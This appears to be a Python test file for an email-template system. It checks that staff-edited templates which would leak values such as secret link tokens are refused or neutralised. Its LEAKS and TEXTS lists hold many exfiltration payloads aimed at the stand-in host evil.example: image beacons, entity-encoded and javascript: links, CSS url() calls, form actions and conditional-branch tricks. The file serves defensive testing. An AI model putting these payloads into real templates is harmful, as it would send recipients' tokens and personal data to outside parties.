"""What staff make of the house's own messages gives nothing of them away: not when they are opened, nor by a link."""

from datetime import datetime
from typing import Any

import pytest

from kit.errors import Invalid
from kit.ids import uuid7
from kit.origin import NOWHERE
from notifications import wording
from notifications.models import TemplateVersion
from notifications.testing import GREETING, deliver_all, make_greeting, make_template, publish_wording
from notifications.wording import versions
from notifications.wording.defaults import Sources

pytestmark = pytest.mark.django_db

EVIL = "https://evil.example"
LEAKS = (
    f'<img src="{EVIL}/?{{{{ link }}}}">',
    f"<IMG SRC='{EVIL}/{{{{ link }}}}'>",
    f"<img src={EVIL}/{{{{ name }}}}>",
    '<img src="//evil.example/{{ name }}">',
    '<img src="{{ link }}">',
    f'<img src="{EVIL}/pixel.png">',
    '<img src="data:image/svg+xml,{{ name }}">',
    '<img src="/pixel.png">',
    f'<a href="{EVIL}/?{{{{ link }}}}">x</a>',
    f'<a href = "  {EVIL}/?{{{{ link }}}}">x</a>',
    '<a href="&#104;ttps://evil.example/?{{ link }}">x</a>',
    '<a href="HtTpS&colon;//evil.example/{{ link }}">x</a>',
    '<a href="javascript:fetch({{ link }})">x</a>',
    '<a href="mailto:evil@evil.example?body={{ link }}">x</a>',
    '<a href="{{ link }}{{ name }}">x</a>',
    '<a href="{{ link }}.evil.example">x</a>',
    '<a href="https://gatehouse.example.com/{{ name }}">x</a>',
    f"<a href={EVIL}/?{{{{ link }}}}>x</a>",
    f"<a title='\"' href=\"{EVIL}/?q='{{{{ link }}}}'\">x</a>",
    f'<a href="{EVIL}/?\n{{{{ link }}}}">x</a>',
    f'<a href="{EVIL}/?{{{{ link|upper }}}}">x</a>',
    '<a href="{{ link|upper }}">x</a>',
    f"<a href=\"{{{{ name|yesno:'{EVIL}/a,{EVIL}/b' }}}}\">x</a>",
    "<a href=\"{{ ''|default:link }}\">x</a>",
    '<a href="https://e{% if name %}v{% endif %}il.example/{{ link }}">x</a>',
    f'{{% if name < "M" %}}<a href="{EVIL}/lo">x</a>{{% else %}}<a href="{EVIL}/hi">x</a>{{% endif %}}',
    f'<a href="{EVIL}/{{% if name < "M" %}}lo{{% else %}}hi{{% endif %}}">x</a>',
    f'{{% if name < "M" %}}<!-- {{% endif %}}<a href="{EVIL}/hi">x</a><!-- -->',
    f'<p title="{{% if name < "M" %}}">{{% endif %}}<a href="{EVIL}/hi">x</a><br title=">',
    f'{{% for part in name %}}<a href="{EVIL}/{{{{ part }}}}">x</a>{{% endfor %}}',
    f'{{% if name == "Nobody" %}}<img src="{EVIL}/?{{{{ link }}}}">{{% endif %}}',
    f'{{% if name == "Nobody" %}}{{% else %}}<a href="{EVIL}/?{{{{ link }}}}">x</a>{{% endif %}}',
    '<p style="background: url(https://evil.example/{{ link }})">x</p>',
    '<p style="b\\61ckground: u\\72l(//evil.example/{{ name }})">x</p>',
    '<table background="https://evil.example/{{ link }}"></table>',
    '<video poster="https://evil.example/{{ link }}"></video>',
    '<form action="https://evil.example/{{ link }}"></form>',
    '<img srcset="https://evil.example/{{ link }} 2x" src="cid:x">',
    "<p>https://evil.example/{{ name }}</p>",
    "<p>evil.example/{{ name }}</p>",
    "<p>https://evil.example/?<b>{{ name }}</b></p>",
    "<p>evil&#46;example/&#8203;{{ name }}</p>",
    "<p>{{ link }}@evil.example</p>",
    "<p>{{ link }}.evil.example</p>",
    "<p>{{ link }}/{{ name }}</p>",
    f'<a href="{EVIL}/?{{{{ link }}}}',
    f'<a href="{EVIL}/?\ufdd0{{{{ link }}}}\ufdd1">x</a>',
    '<a href="&#xfdd0;https://evil.example/{{ link }}">x</a>',
)  # fmt: skip
TEXTS = (
    "Look: https://evil.example/?{{ link }}",
    "Look: evil.example/{{ name }}",
    "Look: WWW.evil/{{ name }}",
    "Look: <https://evil.example/?\n{{ name }}>",
    "Look: evil\u3002example/{{ name }}",
    "Look: {{ link }}{{ name }}",
    "Look: {{ name }}.evil.example",
    '{% if name < "M" %}https://evil.example/lo{% else %}https://evil.example/hi{% endif %}',
    "https://evil.example/{% for a in name %}x{% endfor %}{% if name < 'M' %}lo{% endif %}",
)
FINE = (
    '<a href="{% if link %}{{ link }}{% else %}{{ public_url }}/{% endif %}">x</a>',
    '<p>Dear {{ name }},</p><a class="button" href="{{ link }}">Look</a><p><a href="{{ link }}">{{ link }}</a>.</p>',
    "<p title='For {{ name }}'>({{ link }}), {{ name|upper }}!</p>",
    '<a href="https://help.example.org/mail">Help</a> <a href="mailto:help@example.org">or write</a>, see example.org',
    '{% if name == "Bert" %}<a href="{{ public_url }}/help">Help</a> at {{ public_url }}.{% endif %}',
)


def draft(html: str = "", text: str = "") -> TemplateVersion:
    now = datetime.fromisoformat("2026-11-22T12:00:00+00:00")
    by: dict[str, Any] = {"actor": uuid7(), "now": now, "origin": NOWHERE}
    return versions.draft(name=GREETING.name, channel="email", sources=Sources("S", text, html), **by)


@pytest.mark.parametrize("number", range(len(LEAKS)))
def test_wording_that_would_give_a_value_away_is_not_kept(number: int) -> None:
    with pytest.raises(Invalid) as refused:
        draft(LEAKS[number], "T")
    assert refused.value.field == "html"


@pytest.mark.parametrize("number", range(len(TEXTS)))
def test_text_of_which_mail_programs_would_make_a_leaking_link_is_not_kept(number: int) -> None:
    with pytest.raises(Invalid) as refused:
        draft("", TEXTS[number])
    assert refused.value.field == "text"


@pytest.mark.parametrize("number", range(len(FINE)))
def test_wording_that_leads_where_its_values_say_is_kept(number: int) -> None:
    assert draft(FINE[number]).number == 1


@pytest.mark.parametrize("number", range(len(LEAKS)))
def test_wording_that_was_kept_before_gives_nothing_away(now: datetime, number: int) -> None:
    published = publish_wording(GREETING.name, Sources("Ahoy", "Ahoy"), now=now)
    TemplateVersion.objects.filter(pk=published.pk).update(html=LEAKS[number])
    make_greeting(now=now, link="https://gatehouse.example.com/open?token=secret")
    [mail] = deliver_all(now)
    assert "evil" not in mail.html + mail.text
    assert "<img" not in mail.html


def test_branch_that_no_sample_shows_gives_nothing_away_when_it_is_said(now: datetime) -> None:
    leak = '{% if name == "Bert" %}{% if link == "x" %}{% else %}https://evil.example/{{ link }}{% endif %}{% endif %}'
    published = publish_wording(GREETING.name, Sources("Ahoy", "Ahoy"), now=now)
    TemplateVersion.objects.filter(pk=published.pk).update(text=leak)
    for name in ("Anna", "Bert"):
        make_greeting(now=now, name=name)
    assert {mail.subject for mail in deliver_all(now) if "evil" not in mail.text} == {"Ahoy", "Hello Bert"}


def test_wording_of_a_house_message_says_its_values_as_they_are(now: datetime) -> None:
    publish_wording(GREETING.name, Sources("For {{ name }}", "", FINE[1]), now=now)
    make_greeting(now=now, name="\ufdd0<Bert>\ufdd1", link="https://gatehouse.example.com/open?a=1&b=2")
    [mail] = deliver_all(now)
    assert mail.subject == "For <Bert>"
    assert "Dear &lt;Bert&gt;," in mail.html
    assert 'href="https://gatehouse.example.com/open?a=1&amp;b=2"' in mail.html
    assert "https://gatehouse.example.com/open?a=1&b=2\n" in mail.text


def test_templates_of_callers_may_make_links_of_what_they_are_given(now: datetime) -> None:
    make_template("hello", {"number": 1}, now=now)
    html = '<a href="https://shop.example/{{ number }}">x</a><img src="https://shop.example/{{ number }}.png">'
    publish_wording("hello", Sources("S", "T", html), now=now)
    found = wording.resolve(name="hello", channel="email")
    assert found is not None
    assert "https://shop.example/7.png" in wording.render(found, {"number": 7}).html
